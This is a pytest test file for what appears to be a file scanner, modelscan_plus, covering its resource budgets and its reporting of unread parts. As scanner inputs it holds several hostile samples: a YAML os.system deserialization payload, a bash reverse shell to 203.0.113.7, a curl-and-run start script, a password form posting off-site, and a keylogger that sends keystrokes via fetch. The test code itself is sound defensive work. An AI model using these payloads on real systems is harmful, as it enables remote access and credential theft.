"""What hostile texts may cost, and that what is left unread is said: counted in places and characters, by no clock."""

import json
from collections.abc import Iterator

import pytest

from modelscan_plus.core.limits import BudgetExceeded
from modelscan_plus.formats.text import plain, toml
from modelscan_plus.formats.text.facts import Remark
from modelscan_plus.formats.text.javascript_flow import Flow, arguments, words
from modelscan_plus.formats.text.kept import MOST, SAME, kept, unread
from modelscan_plus.inspection import FileResult
from tests.samples import inspect


def reasons(result: FileResult) -> list[str]:
    return [reason.code for reason in result.coverage.reasons]


def test_a_flood_of_small_things_hides_no_great_one() -> None:
    flood = "".join(f"a{number}: https://203.0.113.7/{number}\n" for number in range(700))
    result = inspect(f"{flood}b: !!python/object/apply:os.system ['true']\n".encode(), "config.yaml")
    assert any("os.system" in finding.message for finding in result.findings)
    assert reasons(result) == []


def test_one_deed_is_told_a_few_times_and_others_after_it() -> None:
    same, other = Remark("url", "names an odd host", "a", 1, "h"), Remark("command", "runs", "b", 2)
    assert kept([*[same] * 500, other]) == ((*[same] * SAME, other), ())


def test_more_deeds_than_are_kept_are_said() -> None:
    remarks, gaps = kept(Remark("url", f"names {number}", "a", 1) for number in range(MOST + 1))
    assert len(remarks) == MOST
    assert [gap.code for gap in gaps] == ["more-remarks"]


def test_what_was_found_before_a_budget_ended_stays() -> None:
    def found() -> Iterator[Remark]:
        yield Remark("command", "runs", "b", 2)
        raise BudgetExceeded("budget-text", "too much")

    remarks, gaps = kept(found())
    assert len(remarks) == 1
    assert [(gap.code, gap.executable) for gap in gaps] == [("budget-text", True)]


def test_a_part_that_is_not_read_is_a_gap_and_no_finding() -> None:
    assert kept([unread("too long", runs=False)])[0] == ()
    assert [gap.executable for gap in kept([unread("a", runs=False), unread("b")])[1]] == [False, True]


@pytest.mark.parametrize("name", ["requirements.txt", "config.yaml", "page.html", "run.sh"])
def test_what_lies_behind_the_bytes_that_are_read_is_said(monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    monkeypatch.setattr(plain, "EXAMINED", 4_000)
    assert "text-too-large" in reasons(inspect(b"a\n" * 4_000, name))
    assert reasons(inspect(b"a\n" * 1_900, name)) == []


def test_of_word_lists_the_beginning_is_enough(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(plain, "EXAMINED", 4_000)
    assert reasons(inspect(b"a\n" * 4_000, "vocab.txt")) == []


def test_a_key_of_thousands_of_parts_is_not_read() -> None:
    result = inspect(b"a." * 5_000 + b"b = 1\n", "pyproject.toml")
    assert reasons(result) == ["budget-text"]
    assert toml.read_toml("a." * 40 + "b = 1\n") is not None
    with pytest.raises(BudgetExceeded):
        toml.read_toml("a." * (toml.DOTS + 1) + "b = 1\n")
    assert toml.read_toml("a = [") is None


def test_a_script_that_is_too_long_to_follow_is_said() -> None:
    fetches = "curl https://a.example/x -o b\n"
    assert reasons(inspect(f"{fetches}{'# a' * 100_000}\n".encode(), "run.sh")) == ["budget-text"]
    assert reasons(inspect(f"{fetches}{'# a' * 60_000}\n".encode(), "run.sh")) == []


def test_a_script_of_more_commands_than_are_followed_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("modelscan_plus.formats.text.shell.machine._STEPS", 100)
    fetches = "curl https://a.example/x -o b\n"
    assert reasons(inspect((fetches + "a\n" * 101).encode(), "run.sh")) == ["budget-text"]
    assert reasons(inspect((fetches + "a\n" * 98).encode(), "run.sh")) == []


def test_a_page_that_asks_a_password_and_is_too_long_to_follow_is_said() -> None:
    asks = "<form><input type=password name=a></form>"
    large = f"{asks}<!-- {'a ' * 200_000} -->"
    assert reasons(inspect(large.encode(), "a.html")) == ["budget-text"]
    assert reasons(inspect(large.replace("password", "text").encode(), "a.html")) == []


def test_a_call_ends_where_its_parenthesis_does() -> None:
    text = "f(a, (b), g(c)) + h(d"
    assert arguments(text, text.index("a")) == "a, (b), g(c)"
    assert arguments(text, text.index("c")) == "c"
    assert arguments(text, text.index("d")) == "d"
    assert len(arguments("f(" + "a" * 9_000, 2)) == 4_000


def test_a_name_stands_for_its_last_values_and_not_for_ever() -> None:
    text = "a = secret; send(a); " + " " * 100 + "send(a)"
    flow = Flow(text, [(4, 10, "secret")], 50)
    assert flow.tags(4, 10, 0) == {"secret"}
    assert flow.tags(4, 9, 0) == set()  # the mark goes on behind the expression
    flow.note("a", 0, {"secret"})
    assert flow.tags(17, 18, 12) == {"secret"}
    assert flow.tags(len(text) - 2, len(text) - 1, len(text) - 7) == set()
    assert words("a.b + c(d.e)") == {"a", "c", "d"}


@pytest.mark.parametrize("padding", [" " * 4_500, ": " + "a" * 4_500 + "; "], ids=["spaces", "a command"])
def test_a_command_far_to_the_right_is_seen(padding: str) -> None:
    line = f"echo hi; {padding}bash -i >& /dev/tcp/203.0.113.7/443 0>&1\n"
    assert "MSP5057" in {finding.rule for finding in inspect(line.encode(), "run.sh").findings}
    harmless = f"echo hi; {padding}bash -i\n"
    assert inspect(harmless.encode(), "run.sh").findings == ()


def test_a_command_far_behind_in_a_value_is_seen() -> None:
    command = "echo " + "a" * 4_500 + "; curl https://a.example/x -o b; sh b"
    found = inspect(json.dumps({"scripts": {"start": command}}).encode(), "package.json").findings
    assert any("downloads" in finding.message for finding in found)
    assert inspect(json.dumps({"scripts": {"start": command[:-6]}}).encode(), "package.json").findings == ()


def test_scripts_in_scripts_are_read_a_few_times(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("modelscan_plus.formats.text.shell.machine._READ", 4_000)
    fetches = "curl https://a.example/x -o b\n"
    assert reasons(inspect(f"{fetches}{'eval ' * 300}a\n".encode(), "run.sh")) == ["budget-text"]
    assert reasons(inspect(f"{fetches}{'eval ' * 20}a\n".encode(), "run.sh")) == []


FORM = "<form action='{to}'><input type={kind} name=a></form>"


@pytest.mark.parametrize("decoys", [0, 150])
def test_many_forms_hide_no_other(decoys: int) -> None:
    page = FORM.format(to="/a", kind="text") * decoys + FORM.format(to="https://a.example/b", kind="password")
    assert any("enter in secret" in finding.message for finding in inspect(page.encode(), "a.html").findings)
    harmless = FORM.format(to="/a", kind="password") * (decoys + 1)
    assert not inspect(harmless.encode(), "a.html").findings


@pytest.mark.parametrize("decoys", [0, 60])
def test_many_listeners_hide_no_other(decoys: int) -> None:
    listens = "".join(
        f"document.addEventListener('input', f{number});function f{number}(){{}}\n" for number in range(decoys)
    )
    keys = "document.addEventListener('keydown', e => fetch('https://a.example/' + e.key));\n"
    rules = {finding.rule for finding in inspect(f"{listens}{'/* */' * 400}{keys}".encode(), "a.js").findings}
    assert rules
    assert not inspect(listens.encode(), "a.js").findings


def test_variables_that_make_a_script_much_longer_are_not_written_out(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("modelscan_plus.formats.text.variables.LARGEST", 20_000)
    assert reasons(inspect(b"A=aaaaaaaaaaaaaaaaaaaa\n" + b"A=$(A)$(A)\n" * 200, "Makefile")) == ["budget-text"]
    assert reasons(inspect(b"A=aaaaaaaaaaaaaaaaaaaa\n" + b"B=$(A)\n" * 200, "Makefile")) == []
